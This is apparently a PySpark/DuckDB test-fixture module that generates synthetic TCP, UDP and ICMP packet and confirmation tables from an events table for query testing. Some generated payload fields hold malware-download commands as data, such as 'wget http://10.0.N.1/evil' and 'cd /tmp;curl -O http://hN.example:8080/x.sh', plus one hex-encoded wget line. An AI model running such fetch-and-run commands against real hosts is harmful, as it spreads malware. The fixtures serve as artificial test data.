"""Packets and confirmations derived from the events table, and other base tables for the queries.

The given tables hold no packets.  One SQL text derives them, each event playing a short script of
packets, and both engines run the same text; see FIXTURES.md.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

SCRIPTS = (
    ("view", 0, "isyn", 0, 0, 1, 0), ("click", 0, "isyn", 0, 0, 1, 0), ("click", 1, "iack", 40, 1, 0, 1),
    ("signup", 0, "rsyn", 0, 3, 1, 0), ("signup", 1, "rack", 40, 4, 0, 1),
    ("purchase", 0, "isyn", 0, 0, 1, 0), ("purchase", 1, "rsyn", 2000, 3, 1, 0), ("purchase", 2, "rack", 2040, 4, 0, 1), ("purchase", 3, "rack2", 2500, 4, 0, 1),
    ("error", 0, "isyn", 0, 0, 1, 0), ("error", 1, "rsyn", 2000, 3, 1, 0), ("error", 2, "rsyn", 5000, 3, 1, 0),
)


def _packets_sql(base: str) -> str:
    script = " UNION ALL ".join(f"SELECT '{et}' AS et, {step} AS step, '{kind}' AS kind, {off} AS off, {dseq} AS dseq, {syn} AS syn, {ack} AS ack" for et, step, kind, off, dseq, syn, ack in SCRIPTS)
    return f"""
SELECT event_id, step, ts_ms, saddr, daddr, ipid, ttl, 'tcp' AS proto, sport, dport, anum, snum, options,
  CASE WHEN kind = 'rack2' AND event_id % 8 = 3 THEN 'fffe00' ELSE lower(hex(body)) END AS payload,
  syn, ack, 0 AS rst, 0 AS fin, method, event_id * 4 + step AS userid,
  CASE WHEN method = 'tcp-synack' THEN (snum + 1) % 4294967296 ELSE 0 END AS probe_anum,
  CASE WHEN method = 'tcp-rst' THEN anum ELSE 0 END AS probe_snum
FROM (
  SELECT b.event_id, s.step, s.kind, b.t0 + s.off AS ts_ms,
    CASE WHEN b.user_id % 25 = 0 THEN 3328983552 + b.user_id ELSE 754974720 + b.user_id * 7 END AS saddr,
    738197504 + b.event_id % 65536 AS daddr,
    CASE WHEN s.kind = 'isyn' AND b.event_id % 3 = 0 THEN 54321 ELSE (b.event_id * 7 + s.step) % 50000 END AS ipid,
    CASE WHEN s.kind = 'isyn' AND b.event_id % 3 = 1 THEN 231 ELSE 64 END AS ttl,
    1024 + (b.event_id + CASE WHEN s.kind = 'isyn' OR s.kind = 'iack' THEN 0 ELSE 1 END) % 60000 AS sport,
    CASE b.user_id % 5 WHEN 0 THEN 23 WHEN 1 THEN 80 WHEN 2 THEN 443 WHEN 3 THEN 8080 ELSE 2323 END AS dport,
    CASE WHEN s.ack = 1 THEN b.event_id + 77 ELSE 0 END AS anum,
    (b.event_id * 7919 + s.dseq) % 4294967296 AS snum,
    CASE WHEN s.kind = 'isyn' AND b.event_id % 3 <> 2 THEN 'mss' WHEN s.kind = 'rsyn' THEN 'mss:sack_permitted' ELSE '' END AS options,
    CASE WHEN s.kind = 'rack2' AND b.event_id % 16 = 7 THEN 'wget http://late.example/p'
         WHEN s.kind <> 'rack' OR b.event_type <> 'purchase' THEN ''
         WHEN b.event_id % 4 = 0 THEN concat('wget http://10.0.', CAST(b.event_id % 256 AS STRING), '.1/evil')
         WHEN b.event_id % 4 = 1 THEN concat('cd /tmp;curl -O http://h', CAST(b.user_id AS STRING), '.example:8080/x.sh')
         WHEN b.event_id % 4 = 2 THEN 'GET / HTTP/1.1' ELSE '' END AS body,
    s.syn, s.ack, CASE WHEN s.syn = 1 THEN 'tcp-synack' ELSE 'tcp-rst' END AS method
  FROM ({base}) b JOIN ({script}) s ON s.et = b.event_type
) p"""


_CONF = "SELECT userid, method, daddr AS saddr, saddr AS daddr, dport AS sport, sport AS dport, ts_ms + 5 AS ts_ms FROM packets WHERE event_id % 10 <> 9"
#: Common table expressions for DuckDB: ev, packets, conf.
WITH = "WITH packets AS (" + _packets_sql("SELECT event_id, user_id, event_type, epoch_us(ts) // 1000 AS t0 FROM events") + f"), conf AS ({_CONF})"

#: Start of two days that queries over ranges and hours spread the packets over.
TWO_DAYS = 1_700_006_400_000


#: A contended hour over few addresses, with all protocols: (script, step, kind, offset, number, proto, syn, ack, rst, fin).
BUSY = (
    (0, 0, "isyn", 0, 0, "tcp", 1, 0, 0, 0),
    (1, 0, "isyn", 0, 0, "tcp", 1, 0, 0, 0), (1, 1, "iack", 40, 1, "tcp", 0, 1, 0, 0),
    (2, 0, "rsyn", 0, 3, "tcp", 1, 0, 0, 0), (2, 1, "rack", 40, 4, "tcp", 0, 1, 0, 0),
    (3, 0, "isyn", 0, 0, "tcp", 1, 0, 0, 0), (3, 1, "rsyn", 2000, 3, "tcp", 1, 0, 0, 0), (3, 2, "rack", 2040, 4, "tcp", 0, 1, 0, 0), (3, 3, "rack", 2500, 4, "tcp", 0, 1, 0, 0),
    (4, 0, "isyn", 0, 0, "tcp", 1, 0, 0, 0), (4, 1, "rsyn", 2000, 3, "tcp", 1, 0, 0, 0), (4, 2, "rsyn", 5000, 3, "tcp", 1, 0, 0, 0),
    (5, 0, "isyn", 0, 0, "tcp", 1, 0, 0, 0), (5, 1, "rsyn", 1000, 3, "tcp", 1, 0, 0, 0), (5, 2, "rack", 1040, 4, "tcp", 0, 1, 0, 0), (5, 3, "rsyn", 4000, 13, "tcp", 1, 0, 0, 0), (5, 4, "rack", 4040, 14, "tcp", 0, 1, 0, 0),
    (6, 0, "rsyn", 0, 3, "tcp", 1, 0, 0, 0), (6, 1, "isyn", 300, 0, "tcp", 1, 0, 0, 0), (6, 2, "rack", 60, 4, "tcp", 0, 1, 0, 0), (6, 3, "iack", 400, 1, "tcp", 0, 1, 0, 0),
    (7, 0, "rst", 0, 9, "tcp", 0, 0, 1, 0), (7, 1, "fin", 100, 9, "tcp", 0, 1, 0, 1), (7, 2, "synack", 200, 9, "tcp", 1, 1, 0, 0),
    (8, 0, "udp", 0, 0, "udp", 0, 0, 0, 0), (8, 1, "udp", 700, 0, "udp", 0, 0, 0, 0),
    (9, 0, "icmp", 0, 0, "icmp", 0, 0, 0, 0), (9, 1, "bare", 50, 77, "tcp", 0, 1, 0, 0),
)


def _busy_sql(base: str) -> str:
    script = " UNION ALL ".join(f"SELECT {e} AS et, {step} AS step, '{kind}' AS kind, {off} AS off, {number} AS number, '{proto}' AS proto, {syn} AS syn, {ack} AS ack, {rst} AS rst, {fin} AS fin" for e, step, kind, off, number, proto, syn, ack, rst, fin in BUSY)
    return f"""
SELECT event_id, kind, CAST(event_id * 16 + step AS INT) AS step, ts_ms, saddr, daddr, ipid, ttl, proto, sport, dport, anum, snum, options, payload, syn, ack, rst, fin, method,
  event_id * 16 + step AS userid, CASE WHEN method = 'tcp-synack' THEN snum + 1 ELSE 0 END AS probe_anum, CASE WHEN method = 'tcp-rst' THEN anum ELSE 0 END AS probe_snum
FROM (
  SELECT b.event_id, s.kind, s.step, s.proto, s.syn, s.ack, s.rst, s.fin,
    1700002800000 + (b.event_id * 48611 % 224000) * 16 + s.off AS ts_ms,
    CASE WHEN b.event_id % 29 = 7 THEN 167772160 + b.user_id % 3 WHEN b.event_id % 31 = 8 THEN 738197504 + 9 ELSE 754974720 + b.user_id % 20 * 7 END AS saddr,
    CASE WHEN b.event_id % 37 = 9 THEN 3758096385 ELSE 738197504 + b.event_id % 4 END AS daddr,
    CASE WHEN s.kind = 'isyn' AND b.event_id % 3 = 0 THEN 54321 ELSE b.event_id * 7 % 50000 END AS ipid,
    CASE WHEN s.kind = 'isyn' AND b.event_id % 3 = 1 THEN 231 WHEN s.proto = 'icmp' THEN 255 ELSE 64 END AS ttl,
    CASE WHEN s.proto = 'icmp' OR b.event_id % 43 = 2 THEN 0 ELSE 1024 + b.event_id % 60000 END AS sport,
    CASE WHEN s.proto = 'icmp' THEN 0 ELSE 80 END AS dport,
    CASE WHEN s.ack = 1 THEN b.event_id + 77 ELSE 0 END AS anum,
    b.event_id * 32 + s.number AS snum,
    CASE WHEN s.proto = 'icmp' THEN CASE WHEN b.event_id % 4 = 1 THEN 'echo_reply' ELSE 'echo_request' END WHEN s.kind = 'isyn' AND b.event_id % 3 <> 2 THEN 'mss' WHEN s.kind = 'rsyn' THEN 'mss:sack_permitted' ELSE '' END AS options,
    CASE WHEN s.kind = 'iack' THEN '77676574203132372e302e302e312f61' WHEN s.proto = 'udp' AND b.event_id % 3 = 0 THEN 'abcd' ELSE '' END AS payload,
    CASE WHEN s.kind = 'isyn' AND b.event_id % 17 = 3 THEN NULL WHEN s.rst = 1 THEN NULL WHEN s.syn = 1 THEN 'tcp-synack' WHEN s.proto = 'tcp' THEN 'tcp-rst' WHEN s.proto = 'udp' THEN 'udp' ELSE 'icmp-echo' END AS method
  FROM ({base}) b JOIN ({script}) s ON s.et = b.event_id // 4 % 10
) p"""


_BUSY_CONF = """SELECT userid, method, daddr AS saddr, saddr AS daddr, dport AS sport, sport AS dport, ts_ms + CASE WHEN kind <> 'isyn' THEN 5 WHEN event_id % 7 = 0 THEN 1500 WHEN event_id % 11 = 0 THEN 2600 ELSE 5 END + d AS ts_ms
  FROM packets, (SELECT 0 AS d UNION ALL SELECT 50 AS d) t WHERE method IS NOT NULL AND event_id % 13 <> 5 AND (d = 0 OR event_id % 6 = 0)"""
BUSY_WITH = "WITH RECURSIVE packets AS (" + _busy_sql("SELECT event_id, user_id FROM events") + f"), conf AS ({_BUSY_CONF})"


def busy_packets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Packets of one hour in which events share few addresses, so that phases contend; all protocols occur."""
    return spark.sql(_busy_sql("SELECT event_id, user_id FROM {events}").replace("b.event_id // 4 % 10", "b.event_id div 4 % 10"), events=read(spark, sf_dir, "events"))


def busy_confirmations(pkts: DataFrame) -> DataFrame:
    return pkts.sparkSession.sql(_BUSY_CONF.replace("FROM packets", "FROM {packets}"), packets=pkts)


def read(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def packets(spark: SparkSession, sf_dir: str) -> DataFrame:
    events = read(spark, sf_dir, "events").select("event_id", "user_id", "event_type", F.unix_millis(F.col("ts").cast("timestamp")).alias("t0"))
    return spark.sql(_packets_sql("SELECT * FROM {events}"), events=events)


def confirmations(pkts: DataFrame) -> DataFrame:
    return pkts.sparkSession.sql(_CONF.replace("FROM packets", "FROM {packets}"), packets=pkts)
